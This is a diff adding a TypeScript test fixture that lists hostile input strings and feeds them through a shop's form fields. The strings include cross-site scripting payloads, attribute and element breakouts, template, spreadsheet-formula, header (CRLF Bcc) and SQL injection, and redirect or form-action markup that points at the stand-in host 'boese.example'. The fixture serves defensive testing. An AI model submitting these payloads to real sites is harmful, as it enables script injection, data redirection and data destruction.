@@ -1,0 +1,112 @@
+/**
+ * What attackers, and unusual people, type into text fields. `boese.example` is nobody's host: a
+ * request to it is one that a string has caused.
+ */
+const images = '<svg/onload=alert(1)>'
+
+/** Longer than every field but the answer to an inquiry, which takes it whole. */
+const LONG = images.repeat(477).slice(0, 10_000)
+
+export const hostileStrings: readonly string[] = [
+  // Elements that run something.
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '<svg onload=alert(1)>',
+  '<details open ontoggle=alert(1)>',
+  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
+  '<a href="javascript:alert(1)">x</a>',
+  // Ways out of an attribute.
+  '"><img src=x onerror=alert(1)>',
+  `' autofocus onfocus='alert(1)`,
+  '" onmouseover="alert(1)',
+  '` onclick=alert(1) `',
+  // Addresses.
+  'javascript:alert(1)',
+  'data:text/html,<script>alert(1)</script>',
+  // Ways out of an element.
+  '</script><script>alert(1)</script>',
+  '</title><script>alert(1)</script>',
+  '</style><script>alert(1)</script>',
+  '</textarea><img src=x onerror=alert(1)>',
+  '<!--<img src=x onerror=alert(1)>-->',
+  ']]><script>alert(1)</script>',
+  // Elements that send the reader or what they type elsewhere.
+  '<meta http-equiv=refresh content="0;url=//boese.example">',
+  '<base href=//boese.example/>',
+  '<link rel=stylesheet href=//boese.example>',
+  '<form action=//boese.example><button>OK',
+  '<b style="background:url(//boese.example)">',
+  '<b style=width:expression(alert(1))>',
+  // Markup that changes its meaning when it is read twice.
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+  // Characters that must be shown as they are.
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '&#60;img src=x onerror=alert(1)&#62;',
+  String.raw`\u003cscript\u003ealert(1)`,
+  // Templates, the state that pages carry as JSON, spreadsheets, headers.
+  '{{7*7}}',
+  '${7*7}',
+  '"}]};alert(1);//',
+  "=cmd|'/C calc'!A0",
+  'Karla\r\nBcc: opfer@boese.example',
+  // Lines that JavaScript ended, writing that runs the other way, what nobody sees.
+  'Karla\u2028alert(1)\u2029Kundin',
+  'Karla \u202Egpj.exe',
+  'Zero\u200Bwidth\u200Djoin\u2060er',
+  '👩‍🍳 Büro 🏁 قهوة عربية',
+  "'; drop table orders; --",
+  LONG,
+]
+
+/** What a text field takes, as the shop promises it. */
+export interface TextField {
+  /** Most characters. */
+  readonly max: number
+  /** Line breaks may be in it. */
+  readonly lines?: true
+}
+
+/** Controls, JavaScript's line ends and what turns the direction of writing: no field takes them. */
+const refused = /[\p{Cc}\u2028-\u202E\u2066-\u2069]/u
+
+/** Does this field take the text? If not, the shop says so at the field. */
+export function takes({ max, lines }: TextField, text: string): boolean {
+  return text.length <= max && !refused.test(lines ? text.replaceAll(/\r\n/g, '') : text)
+}
+
+const MOST_TOGETHER = 3
+
+/** What acts, if at all, at the start of a text: it begins one. */
+const leads = /^(?:javascript:|data:|[="'`])/
+
+/** All strings that the field takes, some together in one text, and then the longest it takes. */
+function textsFor(field: TextField): string[] {
+  const texts: string[][] = []
+  const separator = field.lines ? '\n' : ' '
+  const isFree = (text: readonly string[], more: string): boolean =>
+    text.length < MOST_TOGETHER && [...text, more].join(separator).length <= field.max
+  for (const string of hostileStrings) {
+    if (!takes(field, string)) continue
+    const free = leads.test(string) ? undefined : texts.find((text) => isFree(text, string))
+    if (free) free.push(string)
+    else texts.push([string])
+  }
+  return [...texts.map((text) => text.join(separator)), LONG.slice(0, field.max)]
+}
+
+/** Values for a form's fields, so many times that every string went through every field. */
+export function hostileRounds<Name extends string>(
+  fields: Readonly<Record<Name, TextField>>,
+): Record<Name, string>[] {
+  const names = Object.keys(fields) as Name[]
+  const texts = names.map((name) => textsFor(fields[name]))
+  const rounds = Math.max(...texts.map(({ length }) => length))
+  return Array.from({ length: rounds }, (_, round) => {
+    const values = names.map((name, index) => {
+      const own = texts[index] ?? []
+      return [name, own[round % own.length] ?? '']
+    })
+    return Object.fromEntries(values) as Record<Name, string>
+  })
+}
